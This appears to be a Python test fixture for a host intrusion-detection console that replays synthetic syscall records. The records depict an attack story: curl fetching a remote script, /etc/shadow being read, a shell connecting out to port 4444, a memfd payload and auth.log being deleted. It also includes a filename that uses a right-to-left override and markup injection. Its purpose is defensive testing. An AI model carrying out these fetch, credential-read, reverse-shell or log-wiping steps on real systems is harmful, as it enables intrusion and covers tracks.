"""A pipeline's front, built by hand: real records, history and event objects, but no kernel, clock or threads."""

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import Future
from itertools import pairwise
from pathlib import Path
from typing import Any

import msgspec

from sentinel_engine.alerts import AlertBook
from sentinel_engine.collector.place import Place
from sentinel_engine.collector.playback import Playback
from sentinel_engine.collector.scope import Scope
from sentinel_engine.collector.source import BootProcess
from sentinel_engine.describe import detail, epoch_ns, event_dict, message_of
from sentinel_engine.history import History
from sentinel_engine.match.plain import Filter
from sentinel_engine.process_view import ProcessView
from sentinel_engine.processes import ProcessLine, ProcessTable
from sentinel_engine.records import Clock, Record, batch_of, decode, encode
from sentinel_engine.response import Response
from sentinel_engine.schema import ALL_KINDS, KIND_BY_NAME
from sentinel_engine.snapshot import (
    Alert,
    Latency,
    Memory,
    ProcessEntry,
    RuleRef,
    RuleState,
    RuleView,
    Severity,
    Snapshot,
    SourceView,
)
from sentinel_engine.triage import TriageControl

SECOND = 1_000_000_000
UPTIME = 4 * 3600 * SECOND  # when the story begins
CLOCK = Clock(1_795_400_000 * SECOND - UPTIME)
AF_INET = 2

TREE = (
    ProcessEntry(1, "2026-11-22T23:00:00.000000000Z", "systemd", "/usr/lib/systemd/systemd", ("/sbin/init",), 0),
    ProcessEntry(611, "2026-11-22T23:00:01.000000000Z", "sshd", "/usr/sbin/sshd", ("sshd: alice",), 0),
    ProcessEntry(4102, "2026-11-23T02:10:00.000000000Z", "bash", "/usr/bin/bash", ("-bash",), 1000, "pts/0", "/root"),
    ProcessEntry(
        4214,
        "2026-11-23T02:13:30.190000000Z",
        "sh",
        "/usr/bin/dash",
        ("sh", "-i"),
        0,
        "pts/0",
        "/root",
        unit="session-3.scope",
        loginuid=1000,
    ),
)
_STARTS = {entry.pid: epoch_ns(entry.start_time) - CLOCK.offset_ns for entry in TREE}


def record(kind: str, second: float, pid: int, comm: bytes, **fields: Any) -> bytes:
    """One encoded record at this many seconds of the story."""
    times = {"boot_ns": UPTIME + int(second * SECOND), "leader_start": _STARTS.get(pid, 0)}
    return encode(KIND_BY_NAME[kind], tgid=pid, tid=pid, comm=comm, **times, **fields)


def connect(second: float, pid: int, comm: bytes, address: bytes, port: int) -> bytes:
    """One connect over IPv4."""
    return record("connect", second, pid, comm, args=(3, AF_INET, port, 40000), strings=(address,), ret=-115)


def execute(second: float, pid: int, comm: bytes, exe: bytes, argv: bytes) -> bytes:
    """One exec."""
    return record("exec", second, pid, comm, args=(0, 7, 0, 2), strings=(exe, argv, b"/root", b"pts/0"))


# Wide characters, a right-to-left override, and what Rich and Textual would take for markup.
HOSTILE = "/opt/日本語/\u202etxt.exe[bold]"
STORY = [
    record("fork", 10.104, 4102, b"bash", args=(4212, 0)),
    execute(10.131, 4212, b"curl", b"/usr/bin/curl", b"curl\0-s\x0010.0.0.5/x.sh"),
    connect(10.140, 4212, b"curl", bytes([10, 0, 0, 5]), 80),
    record("open", 10.152, 4213, b"cat", args=(0, 0, 9), strings=(b"/etc/shadow",), ret=3),
    record("open", 10.153, 4213, b"cat", args=(0x80000, 0, 0), strings=(HOSTILE.encode(),), ret=-2),
    execute(10.201, 4214, b"sh", b"/usr/bin/dash", b"sh\0-i"),
    connect(10.220, 4214, b"sh", bytes([10, 0, 0, 5]), 4444),
    record("memfd_create", 10.300, 4214, b"sh", args=(1,), strings=(b"\xff\xfepayload",)),
    record("unlink", 10.310, 4214, b"sh", strings=(b"/var/log/auth.log",)),
    record("exit", 10.400, 4213, b"cat"),
]


def rule(name: str, severity: Severity, state: RuleState = RuleState.ENABLED, **fields: Any) -> RuleView:
    """One rule that has run for a while."""
    return RuleView(
        name, state, severity=severity, version="1.0", title=name.replace("-", " "), calls=1_204_377,
        latency_ns=Latency(18, 41, 900, 20.5), memory_bytes=Memory(65536, 65536, 16 << 20), **fields,
    )  # fmt: skip


RULES = (
    rule("reverse-shell", Severity.CRITICAL, alerts=1),
    rule("sensitive-file-read", Severity.HIGH, alerts=3),
    rule("hidden-file", Severity.MEDIUM, RuleState.DISABLED),
    rule("my-rule.wat", Severity.LOW, RuleState.QUARANTINED, reason="deadline exceeded 5 times", retry_seconds=40),
    rule("broken", Severity.LOW, RuleState.FAILED, reason="the module is not WebAssembly"),
)


def alert(name: str, severity: Severity, index: int, message: str, **fields: Any) -> Alert:
    """An alert about the story's record at this index."""
    event = event_dict(decode(STORY[index], 0, index), CLOCK)
    time = event["time"]
    values: dict[str, Any] = {"count": 1, "first_time": time, "last_time": time, "process_tree": TREE} | fields
    ref = RuleRef(name, "1.0", severity, "ab" * 32, ("T1059.004",))
    return Alert(f"{index}-{name}", time, ref, message_of(message, event), event, **values)


ALERTS = (
    alert("sensitive-file-read", Severity.HIGH, 3, "{comm} read {path}", count=3, process_tree=TREE[:3]),
    alert("reverse-shell", Severity.CRITICAL, 6, "{comm} → {addr}:{port}", logs=("stdin is a socket",)),
)


class Stage:
    """What the console sees of a pipeline. ``calls`` keeps what it was told to do."""

    def __init__(self, story: list[bytes] = STORY, alerts: tuple[Alert, ...] = ALERTS) -> None:
        self.history = History()
        self.total = 0
        self.shown = ALL_KINDS
        self.calls: list[tuple[Any, ...]] = []
        self.refusal: Exception | None = None
        self.playback: Playback | None = None
        self.seeker: Stage | None = None  # set it to the stage itself
        self.response: Response | None = None
        book = AlertBook(CLOCK, ProcessTable(CLOCK, []))
        self.triage = TriageControl(lambda: book, self)
        self.view = Snapshot(
            source=SourceView("demo", live=False, time="2026-11-23T10:22:31.000000000Z", share=0.42),
            elapsed=751.0,
            events={},
            total_events=0,
            events_per_second=(1200, 9000, 12400, 3100, 800, 12400),
            lost={},
            rules=RULES,
            alerts=alerts,
            total_alerts=4,
            severities={Severity.CRITICAL: 1, Severity.HIGH: 3},
            cpu_percent=6.2,
            rss_bytes=92 << 20,
            session="",
        )
        self.feed(story)

    def feed(self, records: list[bytes]) -> None:
        """More events happen."""
        if records:
            self.history.append(batch_of(records, self.total))
            self.total += len(records)

    def change(self, **fields: Any) -> None:
        """The next snapshot is different in these fields."""
        self.view = msgspec.structs.replace(self.view, **fields)

    def snapshot(self) -> Snapshot:
        return self.view

    def events(
        self, where: Filter | None, limit: int, before: int | None = None, after: int = -1
    ) -> list[dict[str, Any]]:
        events = self.history.tail(_event, where, limit, before, after)
        return [event | {"detail": detail(event)} for event in events]

    def events_after(self, where: Filter, limit: int, after: int) -> list[dict[str, Any]]:
        return [event | {"detail": detail(event)} for event in self.history.head(_event, where, limit, after)]

    @property
    def processes(self) -> ProcessView:
        """A view of those of the tree, by a real table."""
        return ProcessView(self, self.history, CLOCK)

    def at_rest(self, command: Callable[[], str]) -> Future[str]:
        future: Future[str] = Future()
        future.set_result(command())
        return future

    def record_action(self, action: str, target: str, detail: str) -> None:
        self.calls.append((action, target, detail))

    def process_lines(self, _gone_seconds: float) -> list[ProcessLine]:
        return ProcessTable(CLOCK, [_boot(entry, above) for above, entry in pairwise((None, *TREE))]).lines(0)

    def newest_ns(self) -> int:
        return _now_ns()

    @property
    def hunter(self) -> Stage:
        """What is done to the past, too."""
        return self

    def start(self, rule_id: str) -> Future[str]:
        return self._done("hunt", rule_id)

    def go(self, place: Place) -> Future[str]:
        return self._done("go", place.text)

    def go_to_alert_before(self) -> Future[str]:
        return self._done("alert before")

    def cancel(self) -> None:
        self.calls.append(("cancel",))

    @property
    def rules(self) -> Stage:
        """What is done to rules is kept in ``calls``, too."""
        return self

    def set_enabled(self, rule_id: str, enabled: bool) -> Future[str]:
        state = RuleState.ENABLED if enabled else RuleState.DISABLED
        rules = [msgspec.structs.replace(one, state=state) if one.id == rule_id else one for one in self.view.rules]
        self.change(rules=tuple(rules))
        return self._done("set_enabled", rule_id, enabled)

    def show(self, kinds: int) -> None:
        self.shown = kinds

    def set_scope(self, scope: Scope) -> Future[str]:
        self.change(scope=str(scope))
        return self._done("set_scope", scope)

    def reload(self, rule_id: str) -> Future[str]:
        return self._done("reload", rule_id)

    def roll_back(self, rule_id: str) -> Future[str]:
        return self._done("roll_back", rule_id)

    def start_shadow(self, rule_id: str) -> Future[str]:
        return self._done("start_shadow", rule_id)

    def promote(self, rule_id: str) -> Future[str]:
        return self._done("promote", rule_id)

    def drop_shadow(self, rule_id: str) -> Future[str]:
        return self._done("drop_shadow", rule_id)

    def reload_all(self) -> Future[str]:
        return self._done("reload_all")

    def export(self, path: Path | None = None) -> Future[str]:
        return self._done("export", path)

    def _done(self, *call: Any) -> Future[str]:
        self.calls.append(call)
        future: Future[str] = Future()
        if self.refusal:
            future.set_exception(self.refusal)
        else:
            future.set_result(f"{call[0]} done")
        return future


def _now_ns() -> int:
    """A minute after the newest process of the tree began."""
    return max(epoch_ns(entry.start_time) for entry in TREE) - CLOCK.offset_ns + 60 * SECOND


def _boot(entry: ProcessEntry | None, above: ProcessEntry | None) -> BootProcess:
    assert entry
    argv = tuple(part.encode() for part in entry.argv)
    return BootProcess(
        entry.pid, above.pid if above else 0, epoch_ns(entry.start_time) - CLOCK.offset_ns, entry.comm.encode(),
        (entry.exe or "").encode(), argv, (entry.cwd or "").encode(), entry.uid or 0, (entry.tty or "").encode(),
    )  # fmt: skip


def _event(record: Record) -> dict[str, Any]:
    return event_dict(record, CLOCK)
